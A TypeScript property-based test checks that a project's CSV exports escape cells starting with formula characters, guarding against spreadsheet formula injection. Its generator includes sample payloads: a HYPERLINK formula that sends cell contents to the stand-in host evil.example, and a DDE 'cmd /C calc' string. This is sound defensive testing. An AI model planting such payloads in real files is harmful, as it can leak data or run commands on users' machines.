/**
 * Property-based test of every CSV Frontlines writes (issue 23): read back with an RFC 4180 reader
 * written apart from the writer, no cell of the areas or the events CSV starts with =, +, -, @, a tab or a
 * carriage return, whatever the sides are called; and csvLine keeps every value, text with its
 * apostrophe and numbers as numbers. tests/fuzz/run.ts says what each run checks (FUZZ_SEED fixes the seed).
 */
import { describe } from 'vitest';
import fc from 'fast-check';
import { csvLine } from '../src/data/csv.ts';
import type { Faction } from '../src/data/contract.ts';
import type { Stats } from '../src/data/stats.ts';
import { fuzz, reportTimings } from '../tests/fuzz/run.ts';
import { areasCsv, eventsCsv, type StoryFiles } from './downloads.ts';
import type { StoryEvent } from '../src/data/events.ts';
import { NO_STORY } from '../src/data/story.ts';

reportTimings();

/** RFC 4180, section 2: fields split at commas, quoted fields may hold commas, CR, LF and "" for a quote. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [], cell = '', i = 0, quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      cell += c; i++; continue;
    }
    if (c === '"' && cell === '') { quoted = true; i++; continue; }
    if (c === ',') { row.push(cell); cell = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    if (c === '"' || c === '\r' || c === '\n') throw new Error(`stray ${JSON.stringify(c)} at ${i}`);
    cell += c; i++;
  }
  if (cell !== '' || row.length) throw new Error('the last line has no CRLF');
  return rows;
}

const DANGER = ['=', '+', '-', '@', '\t', '\r'];
const startsDangerous = (cell: string) => DANGER.some((d) => cell.startsWith(d));
/** Text as data may hold it: anything, and text that starts with a formula character. */
const text = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom(...DANGER), fc.string({ unit: 'binary' })).map(([d, s]) => d + s),
  fc.constantFrom('=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", '-12.5', '"=1"', ',=1', '\r\n=1'),
);

describe('CSV files', () => {
  const faction = fc.record({ id: fc.stringMatching(/^[a-z0-9-]{1,12}$/), name: text });
  const story = fc.uniqueArray(faction, { minLength: 1, maxLength: 6, selector: (f) => f.id });
  const area = fc.double({ min: 0, max: 1e7, noNaN: true });
  const input = story.chain((sides) => fc.tuple(fc.constant(sides), fc.array(fc.tuple(fc.integer({ min: 1900, max: 2100 }), fc.array(area, { minLength: sides.length * 3, maxLength: sides.length * 3 })), { minLength: 1, maxLength: 4 })));

  fuzz('areasCsv', input, ([sides, dates]) => {
    const factions = sides.map((f): Faction => ({ id: f.id, name: { en: f.name, nl: f.name }, short: { en: f.name, nl: f.name }, color: '#000000', grammar: {} } as Faction));
    const stats: Stats = new Map(dates.map(([year, a], d) => {
      const dateIso = `${year}-01-${String(d + 1).padStart(2, '0')}`;
      const table = (k: number) => Object.fromEntries(sides.map((f, i) => [f.id, a[i * 3 + k]!]));
      return [dateIso, { dateIso, areaKm2: { held: table(0), desert: table(1), contested: table(2) }, frontierKm: {}, claims: {} }];
    }));
    const s: StoryFiles = { story: NO_STORY, factions, entries: [], stats };
    return { csv: areasCsv(s, stats), s };
  }, ({ csv, s }) => {
    const rows = readCsv(csv);
    for (const row of rows) {
      if (row.length !== 5) throw new Error(`a row of ${row.length} cells: ${JSON.stringify(row).slice(0, 200)}`);
      const bad = row.find(startsDangerous);
      if (bad !== undefined) throw new Error(`a cell starts with a formula character: ${JSON.stringify(bad).slice(0, 200)}`);
    }
    // Each side's name is there, after the apostrophe when it needed one.
    for (const f of s.factions) {
      const want = startsDangerous(f.name.en) ? `'${f.name.en}` : f.name.en;
      if (!rows.some((r) => r[2] === want)) throw new Error(`side name ${JSON.stringify(f.name.en).slice(0, 100)} is not in the CSV as ${JSON.stringify(want).slice(0, 100)}`);
    }
  }, 2_000);

  const bilingual = fc.record({ en: text, nl: text });
  const event = fc.record({
    id: fc.stringMatching(/^[a-z0-9-]{1,12}$/), title: bilingual, text: fc.option(bilingual, { nil: null }),
    place: fc.option(fc.stringMatching(/^[a-z]{1,6}$/), { nil: null }), status: fc.constantFrom('confirmed', 'claimed', 'disproved'),
    settled: fc.option(fc.record({ source: text }), { nil: null }), sources: fc.array(text, { minLength: 1, maxLength: 3 }),
  });
  const placeName = fc.dictionary(fc.stringMatching(/^[a-z]{1,6}$/), text, { maxKeys: 4 });
  fuzz('eventsCsv', fc.tuple(fc.array(event, { maxLength: 6 }), placeName), ([raw, names]) => {
    const date = { iso: '2016-08', year: 2016, month: 8, day: null };
    const events = raw.map((e) => ({ ...e, date, settled: e.settled && { date, source: e.settled.source } }) as unknown as StoryEvent);
    return { csv: eventsCsv(events, new Map(Object.entries(names))), events };
  }, ({ csv, events }) => {
    const rows = readCsv(csv);
    if (rows.length !== events.length + 1) throw new Error(`${rows.length} rows for ${events.length} events`);
    for (const row of rows) {
      if (row.length !== 12) throw new Error(`a row of ${row.length} cells: ${JSON.stringify(row).slice(0, 200)}`);
      const bad = row.find(startsDangerous);
      if (bad !== undefined) throw new Error(`a cell starts with a formula character: ${JSON.stringify(bad).slice(0, 200)}`);
    }
    events.forEach((e, i) => {
      const want = startsDangerous(e.title.en) ? `'${e.title.en}` : e.title.en;
      if (rows[i + 1]![3] !== want) throw new Error(`title ${JSON.stringify(e.title.en).slice(0, 100)} came back as ${JSON.stringify(rows[i + 1]![3]).slice(0, 100)}`);
    });
  }, 2_000);

  const cellValue = fc.oneof(text, fc.double(), fc.integer());
  fuzz('csvLine', fc.array(cellValue, { minLength: 1, maxLength: 8 }), (cells) => ({ cells, line: csvLine(cells) }), ({ cells, line }) => {
    const [row, ...rest] = readCsv(`${line}\r\n`);
    if (rest.length || row!.length !== cells.length) throw new Error(`read back ${rest.length + 1} lines, ${row!.length} cells for ${cells.length}`);
    cells.forEach((v, i) => {
      const got = row![i]!;
      if (typeof v === 'number' && Number.isFinite(v)) {
        if (Number(got) !== v || !/^-?[\d.]+(e[+-]\d+)?$/.test(got)) throw new Error(`the number ${v} came back as ${JSON.stringify(got)}`);
        return;
      }
      const t = String(v);
      if (startsDangerous(got) || got !== (startsDangerous(t) ? `'${t}` : t)) throw new Error(`${JSON.stringify(t).slice(0, 100)} came back as ${JSON.stringify(got).slice(0, 100)}`);
    });
  });
});
